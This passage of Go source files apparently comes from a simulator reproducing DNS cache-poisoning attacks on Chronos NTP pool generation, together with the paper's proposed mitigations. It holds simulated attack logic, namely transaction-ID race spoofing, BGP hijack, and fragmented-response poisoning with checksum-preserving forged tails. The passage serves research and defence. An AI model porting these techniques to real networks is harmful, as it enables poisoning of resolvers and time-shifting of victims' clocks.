	rootIP     = simnet.IPv4(198, 41, 0, 4)
	ntpOrgIP   = simnet.IPv4(198, 51, 100, 10)
	clientIP   = simnet.IPv4(10, 0, 0, 1)
	attackerIP = simnet.IPv4(66, 66, 0, 1)
)

func TestPaperPolicies(t *testing.T) {
	rp := PaperResolverPolicy()
	if rp.MaxAnswerRecords != 4 || rp.MaxTTL != 24*time.Hour {
		t.Errorf("resolver policy: %+v", rp)
	}
	cp := PaperClientPolicy()
	if cp.MaxAddrsPerResponse != 4 || cp.MaxTTL != 24*time.Hour {
		t.Errorf("client policy: %+v", cp)
	}
	// The forged 89-record, 7-day-TTL response trips both policies.
	forge := &attack.ResponseForge{PoolName: "pool.ntp.org", Servers: make([]simnet.IP, 89)}
	q := dnswire.NewQuery(1, "pool.ntp.org", dnswire.TypeA)
	q.SetEDNS(4096)
	resp, err := forge.Response(q)
	if err != nil {
		t.Fatal(err)
	}
	if !rp.Violates(resp) {
		t.Error("resolver policy did not flag the forged response")
	}
	// A benign pool response passes.
	benign := q.Reply()
	for i := 0; i < 4; i++ {
		benign.Answers = append(benign.Answers, dnswire.ARecord("pool.ntp.org", 150, [4]byte{1, 2, 3, byte(i)}))
	}
	if rp.Violates(benign) {
		t.Error("resolver policy flagged a benign response")
	}
}

// consensusRig builds n independent resolvers, each with its own path to
// the same hierarchy, plus per-resolver stubs on the client host.
func consensusRig(t *testing.T, seed int64, resolvers int) (*simnet.Network, []*dnsresolver.Resolver, []*dnsresolver.Stub) {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: seed})

	rootHost, _ := n.AddHost(rootIP)
	rootSrv, _ := dnsserver.New(rootHost)
	rootZone := dnsserver.NewDelegatingZone("")
	rootZone.Delegate(dnsserver.Delegation{
		Child: "ntp.org", NSTTL: 3600,
		Glue: []dnsserver.NSGlue{{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: 3600}},
	})
	_ = rootSrv.AddZone("", rootZone)

	ntpHost, _ := n.AddHost(ntpOrgIP)
	ntpSrv, _ := dnsserver.New(ntpHost)
	benign := make([]simnet.IP, 100)
	for i := range benign {
		benign[i] = simnet.IPv4(203, 0, byte(i/100), byte(i%100+1))
	}
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), benign)
	if err != nil {
		t.Fatal(err)
	}
	_ = ntpSrv.AddZone("pool.ntp.org", pool)

	clientHost, _ := n.AddHost(clientIP)
	var rs []*dnsresolver.Resolver
	var stubs []*dnsresolver.Stub
	for i := 0; i < resolvers; i++ {
		rh, _ := n.AddHost(simnet.IPv4(10, 0, 1, byte(i+1)))
		r, err := dnsresolver.New(rh, dnsresolver.Config{EDNSSize: 4096}, []dnsresolver.Hint{
			{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: 53}},
		})
		if err != nil {
			t.Fatal(err)
		}
		rs = append(rs, r)
		stubs = append(stubs, dnsresolver.NewStub(clientHost, r.Addr(), 0))
	}
	return n, rs, stubs
}

func TestConsensusAgreesOnHonestAnswers(t *testing.T) {
	// All resolvers honest and querying inside the same rotation window:
	// full agreement.
	n, _, stubs := consensusRig(t, 131, 3)
	cs := NewConsensusStub(stubs, 0)
	if cs.Quorum() != 2 {
		t.Fatalf("quorum = %d, want 2", cs.Quorum())
	}
	var got dnsresolver.Result
	cs.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	n.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	if len(got.RRs) != 4 {
		t.Errorf("consensus records = %d, want 4", len(got.RRs))
	}
	if len(cs.Resolvers()) != 3 {
		t.Error("Resolvers() size wrong")
	}
}

func TestConsensusDefeatsSinglePoisonedResolver(t *testing.T) {
	// Poison resolver 0 via a direct cache implant (standing in for any
	// of the poisoning mechanisms — their end state is identical), then
	// ask the consensus stub: the forged records lack quorum and are
	// suppressed; the honest majority's answer survives.
	n, rs, stubs := consensusRig(t, 132, 3)
	forged := make([]dnswire.RR, 0, 89)
	for i := 0; i < 89; i++ {
		forged = append(forged, dnswire.ARecord("pool.ntp.org", 7*86400, [4]byte{66, 0, byte(i / 250), byte(i%250 + 1)}))
	}
	rs[0].Cache().Put(n.Now(), "pool.ntp.org", dnswire.TypeA, forged)

	cs := NewConsensusStub(stubs, 0)
	var got dnsresolver.Result
	cs.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	n.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	for _, rr := range got.RRs {
		if rr.A[0] == 66 {
			t.Fatalf("forged record %v survived consensus", rr.A)
		}
	}
	if cs.Suppressed == 0 {
		t.Error("no suppressed records counted")
	}
}

func TestConsensusMajorityPoisonedStillLoses(t *testing.T) {
	// If the attacker controls a majority of the resolvers, consensus is
	// no defence — the residual weakness the paper's conclusion warns
	// about (full DNS hijack).
	n, rs, stubs := consensusRig(t, 133, 3)
	forged := make([]dnswire.RR, 0, 10)
	for i := 0; i < 10; i++ {
		forged = append(forged, dnswire.ARecord("pool.ntp.org", 7*86400, [4]byte{66, 0, 0, byte(i + 1)}))
	}
	rs[0].Cache().Put(n.Now(), "pool.ntp.org", dnswire.TypeA, forged)
	rs[1].Cache().Put(n.Now(), "pool.ntp.org", dnswire.TypeA, forged)

	cs := NewConsensusStub(stubs, 0)
	var got dnsresolver.Result
	cs.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	n.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	evil := 0
	for _, rr := range got.RRs {
		if rr.A[0] == 66 {
			evil++
		}
	}
	if evil != 10 {
		t.Errorf("forged records through majority consensus = %d, want 10", evil)
	}
}

func TestConsensusTTLFloored(t *testing.T) {
	n, rs, stubs := consensusRig(t, 134, 2)
	// Both resolvers agree on an address but one reports a huge TTL.
	rr1 := dnswire.ARecord("pool.ntp.org", 7*86400, [4]byte{203, 0, 0, 1})
	rr2 := dnswire.ARecord("pool.ntp.org", 150, [4]byte{203, 0, 0, 1})
	rs[0].Cache().Put(n.Now(), "pool.ntp.org", dnswire.TypeA, []dnswire.RR{rr1})
	rs[1].Cache().Put(n.Now(), "pool.ntp.org", dnswire.TypeA, []dnswire.RR{rr2})
	cs := NewConsensusStub(stubs, 2)
	var got dnsresolver.Result
	cs.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	n.RunFor(10 * time.Second)
	if got.Err != nil || len(got.RRs) != 1 {
		t.Fatalf("consensus: %+v", got)
	}
	if got.RRs[0].TTL > 150 {
		t.Errorf("TTL = %d, want floored to 150", got.RRs[0].TTL)
	}
}

func TestConsensusNoStubs(t *testing.T) {
	cs := NewConsensusStub(nil, 0)
	var got dnsresolver.Result
	cs.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	if got.Err == nil {
		t.Error("empty consensus should fail")
	}
}

func TestConsensusAllFail(t *testing.T) {
	// Stubs pointing at resolvers that do not exist: consensus reports
	// the failure.
	n := simnet.New(simnet.Config{Seed: 135})
	ch, _ := n.AddHost(clientIP)
	stubs := []*dnsresolver.Stub{
		dnsresolver.NewStub(ch, simnet.Addr{IP: simnet.IPv4(10, 9, 9, 1), Port: 53}, time.Second),
		dnsresolver.NewStub(ch, simnet.Addr{IP: simnet.IPv4(10, 9, 9, 2), Port: 53}, time.Second),
	}
	cs := NewConsensusStub(stubs, 0)
	var got dnsresolver.Result
	gotSet := false
	cs.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got, gotSet = r, true })
	n.RunFor(time.Minute)
	if !gotSet || got.Err == nil {
		t.Error("all-fail consensus should report an error")
	}
	_ = attackerIP
}
