// Package mitigation implements the countermeasures §V of the paper
// proposes, plus the direction it recommends for a real fix:
//
//   - PaperResolverPolicy / PaperClientPolicy: "not allowing more than 4
//     addresses in a single DNS reply and discarding responses with high
//     TTL values", applicable at the resolver and at the Chronos client;
//   - ConsensusStub: pool generation through multiple independent
//     resolvers with majority voting — the distributed-consensus
//     direction of reference [12] ("Secure Consensus Generation with
//     Distributed DoH"). A single poisoned resolver can then contribute
//     at most its minority share and cannot pin the pool.
//
// The paper is explicit that the §V tweaks only *limit* the attack: an
// adversary who hijacks the victim's DNS for the whole 24-hour pool
// generation window (e.g. via BGP) still controls the pool. The
// experiments reproduce that residual weakness.
//
// Policies are pure response filters (addresses in, addresses out) so
// the same implementation applies at three attachment points: the
// caching resolver (dnsresolver), the Chronos client's pool generation
// (core scenarios via the mitigation toggles), and the E10 shift grid,
// where the client-side address cap re-derives the post-mitigation pool
// composition before the engine runs. E7 tables each defence's
// resulting pool; the mitigation axis of -sweep and the fleet study's
// "§V caps" rows measure the same policies at grid and population
// scale. The quantitative upshot the experiments pin: caps restore an
// honest majority against cache poisoning (malicious count → 0) but
// leave the persistent-hijack row at attacker fraction 1.0.
package mitigation

import (
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// PaperMaxAddrs is the per-response address cap from §V (the benign
// pool.ntp.org count).
const PaperMaxAddrs = 4

// PaperMaxTTL is the TTL cap from §V: anything reaching past the next
// pool-generation query is suspicious; 24 h is the generation horizon.
const PaperMaxTTL = 24 * time.Hour

// PaperResolverPolicy returns the §V acceptance policy for a resolver.
func PaperResolverPolicy() dnsresolver.AcceptancePolicy {
	return dnsresolver.AcceptancePolicy{
		MaxAnswerRecords: PaperMaxAddrs,
		MaxTTL:           PaperMaxTTL,
	}
}

// PaperClientPolicy returns the §V vetting policy for the Chronos client's
// own pool generation.
func PaperClientPolicy() chronos.PoolPolicy {
	return chronos.PoolPolicy{
		MaxAddrsPerResponse: PaperMaxAddrs,
		MaxTTL:              PaperMaxTTL,
	}
}

// ConsensusStub resolves names through several independent resolvers and
// reports only the A records a majority agrees on. It satisfies
// chronos.Lookuper, so a Chronos client can swap it in for a single stub.
type ConsensusStub struct {
	stubs  []*dnsresolver.Stub
	quorum int

	// Lookups counts consensus lookups performed.
	Lookups uint64
	// Suppressed counts records seen from some resolver but rejected for
	// lack of quorum.
	Suppressed uint64
}

var _ chronos.Lookuper = (*ConsensusStub)(nil)

// NewConsensusStub builds a consensus stub over the given per-resolver
// stubs. quorum 0 defaults to a strict majority (len/2 + 1).
func NewConsensusStub(stubs []*dnsresolver.Stub, quorum int) *ConsensusStub {
	if quorum <= 0 {
		quorum = len(stubs)/2 + 1
	}
	return &ConsensusStub{stubs: stubs, quorum: quorum}
}

// Lookup implements chronos.Lookuper: fan out, tally per-address votes,
// and deliver the quorum survivors once every resolver answered (or
// failed). TTLs are floored across voters so a single resolver cannot pin
// the result with an inflated TTL.
func (c *ConsensusStub) Lookup(name string, qtype dnswire.Type, cb dnsresolver.Callback) {
	c.Lookups++
	total := len(c.stubs)
	if total == 0 {
		cb(dnsresolver.Result{Err: dnsresolver.ErrServFail, From: "consensus"})
		return
	}
	type vote struct {
		count  int
		minTTL uint32
		rr     dnswire.RR
	}
	votes := make(map[[4]byte]*vote)
	pending := total
	var firstErr error

	finish := func() {
		var out []dnswire.RR
		for _, v := range votes {
			if v.count >= c.quorum {
				rr := v.rr
				rr.TTL = v.minTTL
				out = append(out, rr)
			} else {
				c.Suppressed++
			}
		}
		if len(out) == 0 {
			err := firstErr
			if err == nil {
				err = dnsresolver.ErrNoData
			}
			cb(dnsresolver.Result{Err: err, From: "consensus"})
			return
		}
		cb(dnsresolver.Result{RRs: out, From: "consensus"})
	}

	for _, stub := range c.stubs {
		stub.Lookup(name, qtype, func(res dnsresolver.Result) {
			if res.Err != nil {
				if firstErr == nil {
					firstErr = res.Err
				}
			} else {
				seen := make(map[[4]byte]bool)
				for _, rr := range res.RRs {
					if rr.Type != dnswire.TypeA || seen[rr.A] {
						continue
					}
					seen[rr.A] = true
					v, ok := votes[rr.A]
					if !ok {
						votes[rr.A] = &vote{count: 1, minTTL: rr.TTL, rr: rr}
						continue
					}
					v.count++
					if rr.TTL < v.minTTL {
						v.minTTL = rr.TTL
					}
				}
			}
			if pending--; pending == 0 {
				finish()
			}
		})
	}
}

// Quorum returns the configured vote threshold.
func (c *ConsensusStub) Quorum() int { return c.quorum }

// Resolvers returns the upstream resolver addresses, for diagnostics.
func (c *ConsensusStub) Resolvers() []simnet.Addr {
	out := make([]simnet.Addr, len(c.stubs))
	for i, s := range c.stubs {
		out[i] = s.Resolver()
	}
	return out
}
