package attack

import (
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// RaceSpooferConfig parameterises the classic off-path spoofed-response
// race: blast forged responses at the victim resolver, guessing the
// transaction ID (and source port unless the resolver leaks or fixes it),
// hoping one lands before the genuine answer.
type RaceSpooferConfig struct {
	VictimResolver simnet.IP   // resolver under attack
	SpoofedServer  simnet.Addr // nameserver being impersonated
	QName          string      // question being raced
	Forge          *ResponseForge

	// TXIDGuesses is the number of sequential transaction IDs tried per
	// burst, starting at a random point (default 1024, ≈1.6 % of the
	// space per port guess).
	TXIDGuesses int
	// Ports are the candidate resolver source ports. A resolver using
	// predictable sequential ephemeral ports needs only a few; a
	// port-randomising resolver forces all 64k.
	Ports []uint16
}

func (c RaceSpooferConfig) withDefaults() RaceSpooferConfig {
	if c.TXIDGuesses == 0 {
		c.TXIDGuesses = 1024
	}
	if len(c.Ports) == 0 {
		c.Ports = []uint16{49152}
	}
	return c
}

// RaceSpoofer mounts bursts of forged responses.
type RaceSpoofer struct {
	net *simnet.Network
	cfg RaceSpooferConfig

	// Injected counts forged responses sent.
	Injected uint64
}

// NewRaceSpoofer builds a spoofer.
func NewRaceSpoofer(net *simnet.Network, cfg RaceSpooferConfig) *RaceSpoofer {
	return &RaceSpoofer{net: net, cfg: cfg.withDefaults()}
}

// Burst injects one burst of forged responses spread over spread of
// simulated time (keeping them inside the resolver's response window).
func (r *RaceSpoofer) Burst(spread time.Duration) error {
	base := uint16(r.net.Rand().Intn(1 << 16))
	total := r.cfg.TXIDGuesses * len(r.cfg.Ports)
	if total == 0 {
		return nil
	}
	step := spread / time.Duration(total)
	i := 0
	for g := 0; g < r.cfg.TXIDGuesses; g++ {
		txid := base + uint16(g)
		query := dnswire.NewQuery(txid, r.cfg.QName, dnswire.TypeA)
		query.RecursionDesired = false
		resp, err := r.cfg.Forge.Response(query)
		if err != nil {
			return err
		}
		resp.Authoritative = true
		b, err := resp.Encode()
		if err != nil {
			return err
		}
		for _, port := range r.cfg.Ports {
			datagram := simnet.EncodeUDP(
				r.cfg.SpoofedServer,
				simnet.Addr{IP: r.cfg.VictimResolver, Port: port}, b)
			r.net.Inject(simnet.Packet{
				Src: r.cfg.SpoofedServer.IP, Dst: r.cfg.VictimResolver,
				Proto: simnet.ProtoUDP, ID: uint16(i), Payload: datagram,
			}, time.Duration(i)*step)
			r.Injected++
			i++
		}
	}
	return nil
}

// FullSweep injects a forged response for every possible TXID at each
// candidate port — the exhaustive variant usable when the genuine response
// can be delayed or the port is known. It reports the number injected.
func (r *RaceSpoofer) FullSweep(spread time.Duration) (uint64, error) {
	saved := r.cfg.TXIDGuesses
	r.cfg.TXIDGuesses = 1 << 16
	before := r.Injected
	err := r.Burst(spread)
	r.cfg.TXIDGuesses = saved
	return r.Injected - before, err
}
