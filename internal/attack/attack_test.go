package attack

import (
	"testing"
	"time"

	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

var (
	rootIP       = simnet.IPv4(198, 41, 0, 4)
	ntpOrgIP     = simnet.IPv4(198, 51, 100, 10)
	resolverIP   = simnet.IPv4(10, 0, 0, 53)
	attackerIP   = simnet.IPv4(66, 66, 0, 1)
	attackerNSIP = simnet.IPv4(66, 66, 0, 53)
)

// evilServers returns n attacker NTP-server addresses.
func evilServers(n int) []simnet.IP {
	out := make([]simnet.IP, n)
	for i := range out {
		out[i] = simnet.IPv4(66, 0, byte(i/250), byte(i%250+1))
	}
	return out
}

// topo wires root → ntp.org (pool zone) → resolver, plus attacker hosts.
type topo struct {
	net        *simnet.Network
	root       *dnsserver.Authoritative
	resolver   *dnsresolver.Resolver
	attacker   *simnet.Host
	attackerNS *simnet.Host
	stub       *dnsresolver.Stub // attacker's open-resolver access
}

func newTopo(t *testing.T, seed int64, resolverCfg dnsresolver.Config) *topo {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: seed})

	rootHost, _ := n.AddHost(rootIP)
	rootSrv, err := dnsserver.New(rootHost)
	if err != nil {
		t.Fatal(err)
	}
	rootZone := dnsserver.NewDelegatingZone("")
	rootZone.Delegate(dnsserver.Delegation{
		Child: "ntp.org", NSTTL: 3600,
		Glue: []dnsserver.NSGlue{{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: 3600}},
	})
	if err := rootSrv.AddZone("", rootZone); err != nil {
		t.Fatal(err)
	}

	ntpHost, _ := n.AddHost(ntpOrgIP)
	ntpSrv, err := dnsserver.New(ntpHost)
	if err != nil {
		t.Fatal(err)
	}
	benign := make([]simnet.IP, 200)
	for i := range benign {
		benign[i] = simnet.IPv4(203, 0, byte(i/200), byte(i%200+1))
	}
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), benign)
	if err != nil {
		t.Fatal(err)
	}
	if err := ntpSrv.AddZone("pool.ntp.org", pool); err != nil {
		t.Fatal(err)
	}

	resHost, _ := n.AddHost(resolverIP)
	res, err := dnsresolver.New(resHost, resolverCfg, []dnsresolver.Hint{
		{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: 53}},
	})
	if err != nil {
		t.Fatal(err)
	}

	attHost, _ := n.AddHost(attackerIP)
	attNSHost, _ := n.AddHost(attackerNSIP)
	stub := dnsresolver.NewStub(attHost, res.Addr(), 0)

	return &topo{
		net: n, root: rootSrv, resolver: res,
		attacker: attHost, attackerNS: attNSHost, stub: stub,
	}
}

func TestForgeResponseEDNSCarries89(t *testing.T) {
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(200)}
	q := dnswire.NewQuery(1, "pool.ntp.org", dnswire.TypeA)
	q.SetEDNS(dnswire.EthernetMaxPayload)
	resp, err := forge.Response(q)
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Answers) != 89 {
		t.Errorf("forged answers = %d, want 89", len(resp.Answers))
	}
	b, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if len(b) > dnswire.EthernetMaxPayload {
		t.Errorf("forged response %d bytes exceeds non-fragmented limit", len(b))
	}
	for _, rr := range resp.Answers {
		if rr.TTL != uint32(DefaultForgedTTL/time.Second) {
			t.Fatalf("TTL = %d, want 7 days", rr.TTL)
		}
	}
}

func TestForgeResponseClassic512Carries30(t *testing.T) {
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(200)}
	q := dnswire.NewQuery(1, "pool.ntp.org", dnswire.TypeA)
	resp, err := forge.Response(q)
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Answers) != 30 {
		t.Errorf("classic forged answers = %d, want 30", len(resp.Answers))
	}
}

func TestForgeRecordsCap(t *testing.T) {
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(10), TTL: time.Hour}
	if got := len(forge.Records(0)); got != 10 {
		t.Errorf("Records(0) = %d", got)
	}
	if got := len(forge.Records(3)); got != 3 {
		t.Errorf("Records(3) = %d", got)
	}
	if forge.Records(1)[0].TTL != 3600 {
		t.Error("custom TTL ignored")
	}
}

func TestBGPHijackEndToEnd(t *testing.T) {
	tp := newTopo(t, 111, dnsresolver.Config{EDNSSize: 4096})
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	// Hijack the prefix containing the ntp.org nameserver.
	hj := NewBGPHijacker(tp.net, forge, simnet.IPv4(198, 51, 100, 0), 24)
	hj.Announce()
	if !hj.Active() {
		t.Fatal("hijack not active")
	}

	var got dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	tp.net.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatalf("lookup: %v", got.Err)
	}
	if len(got.RRs) != 89 {
		t.Fatalf("answers = %d, want 89 forged records", len(got.RRs))
	}
	if got.RRs[0].TTL < 86400 {
		t.Errorf("forged TTL = %d, want multi-day", got.RRs[0].TTL)
	}
	if hj.Hijacked == 0 {
		t.Error("no hijacked queries counted")
	}

	// The poisoned entry persists: a query 23 hours later is a cache hit.
	tp.net.RunFor(23 * time.Hour)
	before := tp.resolver.Stats().UpstreamQueries
	var later dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { later = r })
	tp.net.RunFor(10 * time.Second)
	if later.Err != nil || len(later.RRs) != 89 {
		t.Fatal("poisoned cache entry did not persist 23h")
	}
	if tp.resolver.Stats().UpstreamQueries != before {
		t.Error("cache-pinned query still went upstream")
	}

	// Withdraw: new names resolve genuinely again.
	hj.Withdraw()
	if hj.Active() {
		t.Error("still active after withdraw")
	}
}

func TestBGPHijackDropsNonTargetTraffic(t *testing.T) {
	tp := newTopo(t, 112, dnsresolver.Config{Timeout: time.Second, Retries: 1})
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(10)}
	hj := NewBGPHijacker(tp.net, forge, simnet.IPv4(198, 51, 100, 0), 24)
	hj.Announce()
	// A non-pool query into the hijacked prefix gets black-holed →
	// resolver times out.
	var got dnsresolver.Result
	gotSet := false
	tp.stub.Lookup("other.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got, gotSet = r, true }) //nolint
	tp.net.RunFor(time.Minute)
	if !gotSet || got.Err == nil {
		t.Error("black-holed query should fail")
	}
	if hj.Dropped == 0 {
		t.Error("no dropped packets counted")
	}
}

func TestRecordOffsets(t *testing.T) {
	q := dnswire.NewQuery(7, "pool.ntp.org", dnswire.TypeA)
	r := q.Reply()
	r.Answers = []dnswire.RR{dnswire.ARecord("pool.ntp.org", 150, [4]byte{1, 2, 3, 4})}
	r.Authority = []dnswire.RR{dnswire.NSRecord("ntp.org", 3600, "ns1.ntp.org")}
	r.Additional = []dnswire.RR{dnswire.ARecord("ns1.ntp.org", 3600, [4]byte{5, 6, 7, 8})}
	b, err := r.Encode()
	if err != nil {
		t.Fatal(err)
	}
	locs, err := RecordOffsets(b)
	if err != nil {
		t.Fatal(err)
	}
	if len(locs) != 3 {
		t.Fatalf("locs = %d, want 3", len(locs))
	}
	glue := locs[2]
	if glue.Name != "ns1.ntp.org" || glue.Type != dnswire.TypeA || glue.RDLen != 4 {
		t.Fatalf("glue loc: %+v", glue)
	}
	// Patch the rdata in place and confirm the decoder sees the change.
	copy(b[glue.RDataOff:glue.RDataOff+4], []byte{9, 9, 9, 9})
	dec, err := dnswire.Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if dec.Additional[0].A != [4]byte{9, 9, 9, 9} {
		t.Error("patched rdata not visible to decoder")
	}
	// Error paths.
	if _, err := RecordOffsets([]byte{1}); err == nil {
		t.Error("short message accepted")
	}
	if _, err := RecordOffsets(b[:len(b)-2]); err == nil {
		t.Error("truncated message accepted")
	}
}

func TestCraftPoisonedTailPreservesChecksum(t *testing.T) {
	q := dnswire.NewQuery(7, "pool.ntp.org", dnswire.TypeA)
	r := q.Reply()
	r.Authority = []dnswire.RR{dnswire.NSRecord("ntp.org", 3600, "ns1.ntp.org")}
	r.Additional = []dnswire.RR{dnswire.ARecord("ns1.ntp.org", 3600, [4]byte(ntpOrgIP))}
	genuine, err := r.Encode()
	if err != nil {
		t.Fatal(err)
	}
	const tailStart = 40 // MTU 68: first fragment covers datagram bytes [0,48) = payload [0,40)
	mod, err := CraftPoisonedTail(genuine, "ns1.ntp.org", attackerNSIP, 0x00090000, tailStart, simnet.UDPHeaderSize)
	if err != nil {
		t.Fatal(err)
	}
	if len(mod) != len(genuine) {
		t.Fatalf("length changed: %d vs %d", len(mod), len(genuine))
	}
	// Checksum-relevant sums must match over the spoofed region (and the
	// untouched head is byte-identical).
	for i := 0; i < tailStart; i++ {
		if mod[i] != genuine[i] {
			t.Fatalf("head byte %d modified", i)
		}
	}
	if simnet.OnesComplementSum16(mod) != simnet.OnesComplementSum16(genuine) {
		t.Error("ones-complement sum changed — UDP checksum would fail")
	}
	// Decoded view: glue now points at the attacker with a multi-day TTL.
	dec, err := dnswire.Decode(mod)
	if err != nil {
		t.Fatal(err)
	}
	glue := dec.Additional[0]
	if glue.A != [4]byte(attackerNSIP) {
		t.Errorf("glue A = %v, want attacker", glue.A)
	}
	if glue.TTL < 0x00090000 || glue.TTL > 0x0009FFFF {
		t.Errorf("glue TTL = %d, want within compensation band", glue.TTL)
	}
}

func TestCraftPoisonedTailErrors(t *testing.T) {
	q := dnswire.NewQuery(7, "pool.ntp.org", dnswire.TypeA)
	r := q.Reply()
	r.Additional = []dnswire.RR{dnswire.ARecord("ns1.ntp.org", 3600, [4]byte{1, 2, 3, 4})}
	genuine, _ := r.Encode()
	if _, err := CraftPoisonedTail(genuine, "absent.example", attackerNSIP, 0, 0, 8); err == nil {
		t.Error("missing glue accepted")
	}
	// Record entirely inside the genuine first fragment: not spoofable.
	if _, err := CraftPoisonedTail(genuine, "ns1.ntp.org", attackerNSIP, 0, 4096, 8); err == nil {
		t.Error("head-resident record accepted")
	}
}

func TestOnesComplementHelpers(t *testing.T) {
	if swap16(0xABCD) != 0xCDAB {
		t.Error("swap16 broken")
	}
	if onesComplementDelta(10, 3) != 7 {
		t.Error("delta simple case")
	}
	if onesComplementDelta(3, 10) != 0xFFFF-7 {
		t.Error("delta wrap case")
	}
}

func TestFragPoisonEndToEnd(t *testing.T) {
	// The full §IV chain: force fragmentation → probe → plant spoofed
	// tail → trigger the victim walk → resolver redirected to the
	// attacker nameserver → 89 forged pool records cached for 7 days.
	tp := newTopo(t, 113, dnsresolver.Config{EDNSSize: 4096})
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	if _, err := NewMaliciousNameserver(tp.attackerNS, "ntp.org", forge); err != nil {
		t.Fatal(err)
	}
	poisoner := NewFragPoisoner(tp.attacker, FragPoisonerConfig{
		VictimResolver: resolverIP,
		TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
		GlueName:       "ns1.ntp.org",
		AttackerNS:     attackerNSIP,
		ForcedMTU:      68,
		ResolverEDNS:   4096,
	})
	var plantErr error
	planted := false
	poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { plantErr, planted = err, true })
	tp.net.RunFor(5 * time.Second)
	if !planted {
		t.Fatal("attack chain never completed")
	}
	if plantErr != nil {
		t.Fatal(plantErr)
	}
	if poisoner.Planted == 0 || poisoner.Probes != 1 {
		t.Errorf("planted=%d probes=%d", poisoner.Planted, poisoner.Probes)
	}

	// The attacker triggers the victim's resolution via the open
	// resolver. The genuine root referral's first fragment reassembles
	// with the planted tail.
	var got dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	tp.net.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatalf("triggered lookup failed: %v", got.Err)
	}
	if len(got.RRs) != 89 {
		t.Fatalf("answers = %d, want 89 forged records", len(got.RRs))
	}
	evil := make(map[[4]byte]bool)
	for _, ip := range evilServers(89) {
		evil[[4]byte(ip)] = true
	}
	for _, rr := range got.RRs {
		if !evil[rr.A] {
			t.Fatalf("non-attacker record %v in poisoned answer", rr.A)
		}
	}
	// Poisoned glue in cache points at the attacker.
	now := tp.net.Now()
	glue, ok := tp.resolver.Cache().Get(now, "ns1.ntp.org", dnswire.TypeA)
	if !ok || glue[0].A != [4]byte(attackerNSIP) {
		t.Fatalf("glue cache: %+v ok=%v", glue, ok)
	}

	// Cache pinning: 20 hours later the forged records are still served
	// without any upstream query.
	tp.net.RunFor(20 * time.Hour)
	before := tp.resolver.Stats().UpstreamQueries
	var later dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { later = r })
	tp.net.RunFor(10 * time.Second)
	if later.Err != nil || len(later.RRs) != 89 {
		t.Fatal("forged records did not persist")
	}
	if tp.resolver.Stats().UpstreamQueries != before {
		t.Error("pinned entry went upstream")
	}
}

func TestFragPoisonFailsWithoutFragmentation(t *testing.T) {
	// With a normal 1500-byte MTU the referral never fragments: Plant
	// must refuse.
	tp := newTopo(t, 114, dnsresolver.Config{})
	poisoner := NewFragPoisoner(tp.attacker, FragPoisonerConfig{
		VictimResolver: resolverIP,
		TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
		GlueName:       "ns1.ntp.org",
		AttackerNS:     attackerNSIP,
		ForcedMTU:      1500,
	})
	var plantErr error
	planted := false
	poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { plantErr, planted = err, true })
	tp.net.RunFor(5 * time.Second)
	if !planted || plantErr == nil {
		t.Fatalf("expected ErrNoFragmentation, got %v", plantErr)
	}
}

// raceRig builds a resolver whose root hint points at a silent (absent)
// server — modelling a response-delaying DoS against the genuine
// nameserver, the standard companion of a spoofing race.
func raceRig(t *testing.T, seed int64, randomizePort bool) (*simnet.Network, *dnsresolver.Resolver, *dnsresolver.Stub, simnet.Addr) {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: seed})
	deadRoot := simnet.Addr{IP: simnet.IPv4(198, 41, 0, 99), Port: 53} // no host: silent
	resHost, _ := n.AddHost(resolverIP)
	res, err := dnsresolver.New(resHost, dnsresolver.Config{
		EDNSSize: 4096, Timeout: 4 * time.Second, Retries: 0,
